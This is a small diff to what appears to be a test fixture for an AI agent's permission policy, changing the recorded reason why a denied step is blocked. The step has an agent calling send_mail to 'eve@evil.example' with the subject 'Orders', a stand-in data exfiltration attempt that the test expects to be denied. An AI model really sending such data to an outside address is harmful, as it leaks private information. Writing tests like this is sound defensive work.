@@ -123,7 +123,7 @@ TURNS: list[list[Step]] = [
             "send_mail",
             {"to": "eve@evil.example", "subject": "Orders", "body": "Here they are."},
             "deny",
-            "<default:on_no_match>",
+            "<default:on_missing_shadow>",
             "denied",
             sees="[denied]",
         ),
